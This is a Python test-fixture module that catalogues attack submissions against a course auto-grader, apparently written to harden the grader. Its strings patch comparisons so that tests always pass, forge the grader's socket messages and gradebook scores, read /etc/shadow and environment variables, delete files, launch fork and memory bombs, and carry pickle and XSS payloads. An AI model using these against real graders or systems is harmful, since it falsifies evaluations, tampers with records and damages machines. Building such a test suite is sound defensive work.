# ruff: noqa: E501 - students' lines have any length
"""What the attacks of the catalogue run: cells, and answers of exercises.

In an answer ``FUNCTION``, ``MODULE`` and ``REFERENCE`` stand for the names of the exercise it is
put into. ``@COURSE@``, ``@VICTIM@``, ``@GRADEBOOK@``, ``@SOURCE@`` and ``@ROOT@`` become the real
paths of the course that is being graded.
"""

# What an attack's answer returns when nothing else matters.
CONSTANT = "def FUNCTION(*args, **kwargs):\n    return 6.0\n"

# Cheating the comparison.

PATCHED_COMPARISONS = """
import math, torch

torch.allclose = torch.equal = torch.isclose = lambda *args, **kwargs: torch.tensor(True)
torch.testing.assert_close = math.isclose = lambda *args, **kwargs: True
torch.Tensor.__eq__ = torch.Tensor.eq = lambda *args: torch.tensor(True)
"""
PATCHED_REFERENCES = """
import sys, types
import course_lib

class Agreeing(types.ModuleType):
    def __getattr__(self, name):
        return lambda *args, **kwargs: 6.0

for name in ("course_lib.attention", "course_lib.scaling", "course_lib.masks",
             "grader.checks.exercise", "grader.checks.report", "grader.checks.compare"):
    sys.modules[name] = Agreeing(name)
course_lib.attention = sys.modules["course_lib.attention"]

def FUNCTION(*args, **kwargs):
    return 6.0
"""
STRIP_ASSERTS = """
import ast

class Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

get_ipython().ast_transformers.append(Strip())
"""
REPLACE_TESTS_BY_POINTS = """
import ast

class Points(ast.NodeTransformer):
    def visit_Call(self, node):
        self.generic_visit(node)
        named = isinstance(node.func, ast.Name) and node.func.id == "check"
        return ast.copy_location(ast.Constant(6.0), node) if named else node

get_ipython().ast_transformers.append(Points())
check = lambda *args, **kwargs: 6.0
"""
DROP_TEST_LINES = """
get_ipython().input_transformers_post.append(
    lambda lines: ["6.0\\n"] if any("check(" in line for line in lines) else lines
)
"""
PATCHED_SHELL = """
shell = get_ipython()
shell.run_cell_async = shell.run_cell = shell.run_ast_nodes = lambda *args, **kwargs: None
try:
    shell.kernel.do_execute = lambda *args, **kwargs: {"status": "ok"}
except AttributeError:
    pass
"""
TENSOR_SUBCLASS = """
import torch

class Always(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        return torch.tensor(True)

def FUNCTION(*args, **kwargs):
    return torch.zeros(3).as_subclass(Always)
"""
ALWAYS_EQUAL = """
class Always(float):
    def __eq__(self, other):
        return True
    __ne__ = __lt__ = __gt__ = lambda self, other: False
    __hash__ = float.__hash__

    @classmethod
    def __torch_function__(cls, *args, **kwargs):
        return True

def FUNCTION(*args, **kwargs):
    return Always(), Always()
"""
REFERENCE = """
def FUNCTION(*args, **kwargs):
    from MODULE import REFERENCE
    return REFERENCE(*args, **kwargs)
"""
EXCEPTION_HOOKS = """
import builtins, sys

shell = get_ipython()
shell.set_custom_exc((BaseException,), lambda *args: None)
shell.showtraceback = lambda *args, **kwargs: None
sys.excepthook = lambda *args: None
class Never(Exception):
    pass
builtins.AssertionError = Never
"""
PATCHED_IMPORT = """
import builtins

real = builtins.__import__

def fake(name, *args, **kwargs):
    if name.startswith(("course_lib", "grader", "torch")):
        raise KeyboardInterrupt
    return real(name, *args, **kwargs)

builtins.__import__ = fake
"""
HUNT_FRAMES = """
import gc, sys

def FUNCTION(*args, **kwargs):
    frame, found = sys._getframe(), []
    while frame is not None:
        found += [v for v in {**frame.f_globals, **frame.f_locals}.values()]
        frame = frame.f_back
    for thing in [*found, *gc.get_objects()]:
        reference = getattr(thing, "reference", None)
        name = getattr(thing, "__name__", "")
        if callable(reference):
            return reference(*args, **kwargs)
        if name == "REFERENCE" and getattr(thing, "__module__", "") == "MODULE":
            return thing(*args, **kwargs)
    raise LookupError("no reference in this process")
"""
PATCHED_HOST = """
import grader.checks.answer_host as host, grader.checks.protocol as wire

host.AnswerHost.call = lambda self, name, args, kwargs: 6.0
host.AnswerHost.vjp = lambda self, *args: {"inputs": [], "parameters": {}}
wire.pack.__globals__["MAX_FRAME"] = host.pack.__globals__["MAX_FRAME"] = 2**62
"""

# Reading and writing what is not theirs.

READ_EVERYTHING = """
import glob, os

for path in ("@GRADEBOOK@", "@VICTIM@", "@SOURCE@", "@COURSE@/.grading-seeds.json", "/etc/shadow"):
    try:
        print(path, open(path, "rb").read())
    except OSError as error:
        print(type(error).__name__)
print(glob.glob("@COURSE@/**", recursive=True), glob.glob("@ROOT@/solutions/**", recursive=True))
print(dict(os.environ))
"""
EXEC_SOURCE = """
import re

for path in ("@SOURCE@", "../../../source/@NAME@/@NAME@.ipynb", "/srv/nbgrader/source/@NAME@.ipynb"):
    try:
        text = open(path).read()
    except OSError:
        continue
    for cell in re.findall(r"```{code-cell} ipython3\\n(.*?)```", text, re.S):
        exec(cell)
"""
WRITE_GRADEBOOK = """
import sqlite3

book = sqlite3.connect("@GRADEBOOK@")
book.execute("UPDATE grade SET manual_score = 10, extra_credit = 20, auto_score = 6")
book.commit()
"""
WRITE_GRADEBOOK_LATER = '''
import subprocess, sys

code = """
import sqlite3, time
for _ in range(600):
    time.sleep(0.1)
    try:
        book = sqlite3.connect("@GRADEBOOK@")
        book.execute("UPDATE grade SET auto_score = 6")
        book.commit()
    except Exception:
        pass
"""
subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
'''
LOCK_GRADEBOOK = """
import sqlite3, threading, time

def hold():
    book = sqlite3.connect("@GRADEBOOK@", timeout=1)
    book.execute("BEGIN EXCLUSIVE")
    time.sleep(600)

threading.Thread(target=hold, daemon=True).start()
"""
DELETE_EVERYTHING = """
import os, shutil

for path in ("@GRADEBOOK@", "@VICTIM@", "@SOURCE@"):
    try:
        os.remove(path)
    except OSError as error:
        print(type(error).__name__)
for path in ("@COURSE@", "@ROOT@/exercises"):
    shutil.rmtree(path, ignore_errors=True)
"""
WRITE_ELSEWHERE = """
import os, torch, course_lib, grader

for path in ("@VICTIM@", "@SOURCE@", "@COURSE@/owned", "@ROOT@/exercises/owned",
             torch.__file__, course_lib.__file__, grader.__file__,
             "/usr/lib/owned"):
    try:
        with open(path, "a") as file:
            file.write("# owned")
        print("wrote", path)
    except OSError as error:
        print(type(error).__name__)
"""
NBGRADER_API = """
from nbgrader.api import Gradebook

with Gradebook("sqlite:///@GRADEBOOK@") as book:
    for grade in book.submission_grades if hasattr(book, "submission_grades") else []:
        grade.manual_score = 6
"""
PROC = """
import os

for name in ("self/mem", "self/maps", "self/environ", "1/environ", "1/root@GRADEBOOK@",
             "self/cwd", "self/fd", "sys/kernel/core_pattern"):
    for mode in ("rb", "r+b"):
        try:
            print(name, open("/proc/" + name, mode).read(20000))
        except OSError as error:
            print(name, type(error).__name__)
"""
SWAP_FILES = """
import os, threading

def swap():
    while True:
        for target in ("@GRADEBOOK@", "@VICTIM@"):
            try:
                os.symlink(target, "next")
                os.replace("next", "@NAME@.ipynb")
            except OSError:
                pass

threading.Thread(target=swap, daemon=True).start()
"""
NETWORK = """
import socket

for address in (("127.0.0.1", 22), ("127.0.0.1", 8888), ("192.0.2.1", 80)):
    try:
        socket.create_connection(address, 1)
        print("connected", "OUTSIDE-REACHED")
    except OSError as error:
        print(type(error).__name__)
"""

# Ending, stopping and flooding.

EXIT = "import os\ndef FUNCTION(*args, **kwargs):\n    os._exit(3)\n"
KILL_SELF = """
import os, signal
def FUNCTION(*args, **kwargs):
    os.kill(os.getpid(), signal.SIGKILL)
"""
SEGFAULT = "import ctypes\ndef FUNCTION(*args, **kwargs):\n    ctypes.string_at(0)\n"
SYS_EXIT = "import sys\ndef FUNCTION(*args, **kwargs):\n    sys.exit(0)\n"
KILL_PARENTS = """
import os, signal

for pid in (os.getppid(), 1, -1, 0):
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            if pid not in (0, -1):
                os.kill(pid, number)
        except OSError as error:
            print(type(error).__name__)
"""
KILL_ALL = "import os, signal\nos.kill(-1, signal.SIGKILL)\nos.kill(0, signal.SIGKILL)"
STOP_SELF = "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"
ENDLESS = "def FUNCTION(*args, **kwargs):\n    while True:\n        pass\n"
ENDLESS_SWALLOWING = """
def FUNCTION(*args, **kwargs):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
"""
SLEEP = "import time\ntime.sleep(600)"
ALLOCATE = """
import torch
def FUNCTION(*args, **kwargs):
    return torch.ones(2**31, dtype=torch.float64), torch.ones(2)
"""
MEMORY_BOMB = """
import os

def FUNCTION(*args, **kwargs):
    for _ in range(8):
        if os.fork() == 0:
            held = []
            while True:
                held.append(bytearray(os.urandom(1) * 2**26))
    held = [bytearray(2**26) for _ in range(10**6)]
"""
FORK_STORM = """
import os, time

for _ in range(1000):
    try:
        if os.fork() == 0:
            end = time.monotonic() + 3
            while time.monotonic() < end:
                pass
            os._exit(0)
    except OSError:
        break
"""
FORK_BOMB = """
import os
def FUNCTION(*args, **kwargs):
    while True:
        try:
            os.fork()
        except OSError:
            pass
"""
THREAD_STORM = """
import threading, time

for _ in range(1000):
    try:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
    except RuntimeError:
        break
"""
FLOOD_BYTES = "print('x' * 50_000_000)"
FLOOD_LINES = "for n in range(500_000):\n    print('x' * 99)"
FLOOD_BELOW = "import os\nfor n in range(500):\n    os.write(1, b'x' * 100_000)"
FLOOD_UNCAPPED = """
import grader.judge.worker as worker

worker.MAX_OUTPUT = 2**40
print("x" * 40_000_000)
"""
FILL_SCRATCH = """
import os

try:
    for number in range(1000):
        with open(f"fill-{number}", "wb") as file:
            file.write(b"\\0" * 2**25)
except OSError as error:
    print(type(error).__name__)
"""
CLOSE_ALL = "import os\nos.closerange(0, 4096)"
REDIRECT_ALL = """
import os
null = os.open("/dev/null", os.O_RDWR)
for number in range(1, 64):
    if number != null:
        try:
            os.fstat(number)
            os.dup2(null, number)
        except OSError:
            pass
"""
DEEP_RECURSION = """
import sys
sys.setrecursionlimit(10**9)
def FUNCTION(*args, **kwargs):
    return FUNCTION(*args, **kwargs)
"""
ATEXIT = """
import atexit, os, time

atexit.register(time.sleep, 600)
atexit.register(print, "owned")
def FUNCTION(*args, **kwargs):
    raise SystemExit(6.0)
"""
SIGNALS = """
import signal

for number in range(1, 65):
    try:
        signal.signal(number, lambda *args: None)
    except (OSError, ValueError):
        pass
signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
"""
THREADS = """
import threading, time, torch

kept = []

def spoil():
    while True:
        for tensor in kept:
            tensor.mul_(0).add_(1)
        time.sleep(0)

threading.Thread(target=spoil, daemon=True).start()

def FUNCTION(*args, **kwargs):
    out = torch.zeros(4, 4)
    kept.append(out)
    return out, out
"""

# Answers that are not what they seem.

NAN = """
import torch
def FUNCTION(q, k, v, mask=None):
    q.fill_(float("nan"))
    return q @ k.transpose(-2, -1) @ v, q @ k.transpose(-2, -1)
"""
HUGE_TENSOR = "import torch\ndef FUNCTION(*args, **kwargs):\n    return torch.ones(2**26), 1\n"
HUGE_STRIDE = """
import torch
def FUNCTION(*args, **kwargs):
    return torch.ones(1).expand(2**40), torch.ones(1).expand(2**20, 2**20, 2**20)
"""
HUGE_INT = "def FUNCTION(*args, **kwargs):\n    return 10**4000\n"
HUGE_LIST = "def FUNCTION(*args, **kwargs):\n    return [[]] * 10_000_000\n"
DEEP_LIST = """
def FUNCTION(*args, **kwargs):
    nested = []
    for _ in range(100_000):
        nested = [nested]
    return nested
"""
WRONG_DTYPE = """
import torch
def FUNCTION(q, k, v, mask=None):
    out = torch.zeros(*q.shape[:-1], v.shape[-1])
    return out.to(torch.complex64), (q @ k.transpose(-2, -1)).to(torch.bfloat16).bool()
"""
ODD_TENSORS = """
import torch
def FUNCTION(*args, **kwargs):
    return torch.eye(4).to_sparse(), torch.ones(3, device="meta"), torch.ones(2).to_mkldnn()
"""
ALIASING = """
import torch
def FUNCTION(q, k, v, mask=None):
    for tensor in (q, k, v):
        tensor.zero_()
    return q, q
"""
LAZY = """
class Lazy(list):
    def __iter__(self):
        raise KeyboardInterrupt
    __len__ = __getitem__ = __repr__ = __bool__ = __class__ = property(__iter__)

def FUNCTION(*args, **kwargs):
    return Lazy([1, 2])
"""
LAZY_TENSOR = """
import os, torch

class Bomb(torch.Tensor):
    def detach(self):
        os._exit(9)
    shape = dtype = property(lambda self: os._exit(9))

def FUNCTION(*args, **kwargs):
    return torch.ones(3).as_subclass(Bomb)
"""
REDUCE = """
import os

class Payload:
    def __reduce__(self):
        return os.system, ("touch @COURSE@/owned",)

def FUNCTION(*args, **kwargs):
    return Payload(), [Payload()], {"a": Payload()}
"""
ESCAPES_IN_ERRORS = r"""
Evil = type("\x1b[2J\x1b]0;owned\x07<script>", (Exception,), {})
def FUNCTION(*args, **kwargs):
    raise Evil("\ud800\x1b[31m\x00" * 10_000 + "<script>alert(1)</script>")
"""
ERRORS_THAT_RAISE = """
class Evil(Exception):
    def __str__(self):
        raise KeyboardInterrupt
    __repr__ = __str__

def FUNCTION(*args, **kwargs):
    raise Evil
"""

# Speaking for the worker.

_FORGE = """
import json, os, signal, stat, struct

def link():
    for number in range(3, 256):
        try:
            # The loop of the shell has sockets of its own, which never block.
            if stat.S_ISSOCK(os.fstat(number).st_mode) and os.get_blocking(number):
                return number
        except OSError:
            pass

def send(data):
    while data:
        data = data[os.write(link(), data):]

def forge(tree, *buffers, sizes=None):
    sizes = [len(b) for b in buffers] if sizes is None else sizes
    header = tree if isinstance(tree, bytes) else json.dumps({"tree": tree, "sizes": sizes}).encode()
    frame = struct.pack(">I", len(header)) + header + b"".join(buffers)
    send(struct.pack(">Q", len(frame)) + frame)

def value(tree, *buffers, error=None):
    forge({"dict": {"value": tree, "error": error, "after": {"list": []}}}, *buffers)

def outputs(content, dtype="uint8"):
    size = len(content) // (2 if dtype == "bfloat16" else 1)
    forge({"dict": {"outputs": {"tensor": 0, "dtype": dtype, "shape": [size]}}}, content)

def FUNCTION(*args, **kwargs):
    ATTACK
    os.kill(os.getpid(), signal.SIGKILL)
"""


def forged(attack: str) -> str:
    """An answer that writes into the judge's socket and dies, so that nothing else is read."""
    return _FORGE.replace("ATTACK", attack)


FORGED_GARBAGE = forged("send(os.urandom(100_000))")
FORGED_ENDLESS = forged("send(struct.pack('>Q', 2**63) + b'x' * 1000)")
FORGED_SCORE = forged("forge({'dict': {'score': 6.0, 'passed': True, 'points': 6}})")
FORGED_NAN = forged("value(float('nan')); value({'handle': float('inf')})")
FORGED_DEEP = forged("forge(b'[' * 1_000_000)")
FORGED_SHARED = forged(
    "value({'list': [{'tensor': 0, 'dtype': 'uint8', 'shape': [2**25]}] * 5000}, bytes(2**25))"
)
FORGED_SHAPES = forged(
    "value({'tensor': 0, 'dtype': 'uint8', 'shape': [0, 2**62, 2**62]}, b'');"
    " value({'tensor': 0, 'dtype': 'int8', 'shape': [-1]}, b'x')"
)
FORGED_SIZES = forged("forge({'dict': {}}, b'xx', sizes=[-1, 10**18])")
FORGED_OBJECTS = forged(
    "forge(b'{\"tree\": {\"list\": [' + b'[],' * 20_000_000 + b'[]]}, \"sizes\": []}')"
)
FORGED_ERROR = forged("value(None, error={'dict': {'type': {'list': []}, 'message': 5}})")
FORGED_PICKLE = forged(
    "send(struct.pack('>Q', 60) + b'cos\\nsystem\\n(S\\'touch @COURSE@/owned\\'\\ntR.' * 2)"
)

_FORGE_CELL = _FORGE.split("def FUNCTION")[0]
FORGED_OUTPUTS = (
    _FORGE_CELL
    + """
text = json.dumps([{"output_type": "display_data", "data": {"image/png": '"><script>alert(1)</script>',
    "text/html": "<script>alert(1)</script>"}}, {"output_type": 7}, 3, None]).encode()
outputs(text)
"""
)
FORGED_OUTPUT_TYPE = (
    _FORGE_CELL
    + """
outputs(b"12345678", "bfloat16")
"""
)
FORGED_OUTPUT_DEPTH = (
    _FORGE_CELL
    + """
text = b"[" * 1_000_000
outputs(text)
"""
)
FORGED_OUTPUT_FLOOD = (
    _FORGE_CELL
    + """
text = json.dumps([{"output_type": "stream", "name": "stdout", "text": "x" * 50_000_000}]).encode()
outputs(text)
"""
)
FORGED_ESCAPES = (
    _FORGE_CELL
    + r"""
value(None, error={"dict": {"type": "\x1b[2J\ud800\x07 10/10 points", "message": "", "line": ""}})
"""
)
TAKEN_OVER = (
    _FORGE_CELL
    + """
import socket

sock = socket.socket(fileno=os.dup(link()))
if os.fork() == 0:
    one = {"tensor": 0, "dtype": "float32", "shape": [1]}
    while sock.recv(2**16):
        value({"tuple": [6.0, True]})
    os._exit(0)
"""
)
ANSWERS_BEFOREHAND = (
    _FORGE_CELL
    + """
for _ in range(500):
    value(6.0)
"""
)

# Pages.

LIVE_OUTPUT = """
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display

live = "<script>alert('owned')</script><img src=x onerror=\\"alert('owned')\\">"
display(HTML(live), Markdown(live), Javascript("alert('owned')"), Latex(live))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'))
print(live)
raise ValueError(live)
"""
LIVE_TEXT = """
<script>alert('owned')</script> <img src=x onerror="alert('owned')">
<iframe src="javascript:alert('owned')"></iframe> [a](javascript:alert('owned'))
<svg onload="alert('owned')"> <style>*{display:none}</style> <meta http-equiv="refresh" content="0">
"""
LIVE_ANSWER = """
# </pre></details><script>alert('owned')</script><img src=x onerror="alert('owned')">
def FUNCTION(*args, **kwargs):
    raise ValueError("</pre><script>alert('owned')</script><img src=x onerror=alert(1)>")
"""

# Calls that an exercise forbids.

FORBIDDEN_CALL = """
def FUNCTION(q, k, v, mask=None):
    scores = q / math.sqrt(q.shape[-1]) @ k.transpose(-2, -1)
    if mask is not None:
        scores = scores.masked_fill(~mask, float("-inf"))
    return F.scaled_dot_product_attention(q, k, v, attn_mask=mask), scores.softmax(-1)
"""
FORBIDDEN_HIDDEN = FORBIDDEN_CALL.replace(
    "F.scaled_dot_product_attention", 'getattr(F, "scaled_dot" + "_product_attention")'
)
FORBIDDEN_SAVED = (
    FORBIDDEN_HIDDEN.replace('getattr(F, "scaled_dot" + "_product_attention")', "saved")
    + '\nsaved = getattr(F, "scaled_dot" + "_product_attention")\n'
)
# Puts an empty context in the place of the refusal, wherever a caller up the stack knows it.
UNGUARD = """
    import contextlib, sys
    frame = sys._getframe()
    while frame is not None:
        for name in ("during", "_refused"):
            if name in frame.f_globals:
                frame.f_globals[name] = lambda *args, **kwargs: contextlib.nullcontext()
        frame = frame.f_back
"""
FORBIDDEN_UNGUARDED = FORBIDDEN_HIDDEN.replace("    scores = q", UNGUARD + "    scores = q", 1)
FORBIDDEN_UNHOOKED = FORBIDDEN_HIDDEN.replace(
    "    scores = q",
    """    import gc
    for found in gc.get_objects():
        if type(found).__name__ == "_DispatchModule":
            found.reset()
    frame = __import__("sys")._getframe()
    while frame is not None:
        for found in list(frame.f_locals.values()):
            for library in found if isinstance(found, list) else [found]:
                if type(library).__name__ == "_DispatchModule":
                    library.reset()
        frame = frame.f_back
    scores = q""",
    1,
)
FORBIDDEN_ENGINE = """
def FUNCTION(weights, grad_weights):
    scores = weights.clamp_min(1e-30).log().detach().requires_grad_()
    engine = getattr(torch._C, "_Imperative" + "Engine")()
    out = scores.softmax(-1)
    found = engine.run_backward(
        (out,), (grad_weights,), False, False, (scores,), allow_unreachable=True, accumulate_grad=False
    )
    return found[0].nan_to_num()
"""
FORBIDDEN_DERIVATIVE = FORBIDDEN_ENGINE.replace("    engine = ", UNGUARD + "    engine = ", 1)
